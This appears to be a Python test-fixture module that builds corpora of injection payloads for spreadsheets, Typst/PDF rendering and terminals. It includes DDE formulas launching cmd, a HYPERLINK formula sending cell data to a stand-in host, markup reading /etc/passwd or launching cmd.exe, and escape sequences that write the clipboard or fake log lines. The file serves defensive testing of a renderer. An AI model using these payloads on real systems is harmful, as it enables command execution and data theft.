"""What a stranger with one cent would write into a name or a communication, by what would obey it.

| corpus | obeyed by | how many |
|---|---|---|
| formulas | a spreadsheet that opens a CSV or XLSX file | 9 beginnings × 8 bodies |
| markup | the program that sets a PDF, and what reads the PDF | 60 |
| controls | a terminal, a log, whoever reads a line of one | 16 sequences × 4 places |

What a browser would obey (216 payloads) stands beside the pages, in `tests/console/pages/test_injection.py`.
"""

from itertools import product

BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r\n=", " =", "\x00=", "\u202e=")
BODIES = (
    "1+1",
    'HYPERLINK("http://x.example/?"&A1,"y")',
    "cmd|' /C calc'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://x.example")',
    'IMPORTXML("http://x.example","//a")',
    'DDE("cmd";"/C calc";"a")',
    "A1&INDIRECT(B2)",
)
FORMULAS = tuple(begin + body for begin, body in product(BEGINNINGS, BODIES))

_TYPST = (
    '#import "@preview/x:1.0.0": *',
    '#read("/etc/passwd")',
    '#include "house.typ"',
    '#link("http://x.example")[click]',
    '#image("/etc/passwd")',
    "#sys.inputs.sheet",
    "#{ panic() }",
    '"); #panic("x") //',
    "#eval(\"read('/etc/passwd')\")",
    '#metadata("x") #context query(metadata)',
    "#set page(width: 1pt)",
    "#show: it => []",
    "#pagebreak() #colbreak()",
    "$ x^2 $ *bold* _it_ `raw` = heading",
    "\\u{41} \\ // comment /* comment */",
)
_PDF = (
    "(x) Tj ET /JavaScript (app.alert(1)) BT",
    "<< /S /JavaScript /JS (app.alert(1)) >>",
    "<< /S /Launch /F (cmd.exe) >>",
    "<< /S /URI /URI (http://x.example) >>",
    "/OpenAction << /S /GoToR /F (x.pdf) >>",
    "/AA << /O << /S /SubmitForm >> >>",
    "endstream endobj 9 0 obj << /Type /Action >> endobj",
    "%%EOF 1 0 obj << /Type /Catalog >> endobj trailer",
    ") >> endobj xref 0 1 startxref 0",
    "\\) Tj /Im0 Do (\\",
    "/EmbeddedFile /Filespec (x.exe)",
    "/RichMedia /3D /Movie",
    "http://x.example/ mailto:x@x.example javascript:app.alert(1)",
    "{{ x }} {% raw %} ${x} {reference} %(x)s %s {0}",
    "<script>app.alert(1)</script> <xdp:xdp> <?xfa x?>",
)
_AROUND = (("", ""), ("]", "["), (")", "("), ('"', '"'))
MARKUP = tuple(f"{before}{text}{after}" for text, (before, after) in product((*_TYPST, *_PDF), _AROUND))[::2]

_SEQUENCES = (
    "\x1b[31m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://x.example\x1b\\here\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP$q\x1b\\",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x08\x08\x08\x08",
    "\r0.00 EUR",
    "\n2026-11-22 INFO all is well",
    "\x0b\x0c\x85\u2028\u2029",
    "\u202e00.000 RUE\u202c",
    "\u2066x\u2069\u200f\u200b\ufeff",
    "\x00\x7f",
    "[bold red]x[/] [link=http://x.example]y[/link]",
)
_PLACES = ("{}", "LOYER {}", "{} LOYER", "LO{}YER")
CONTROLS = tuple(place.format(text) for place, text in product(_PLACES, _SEQUENCES))
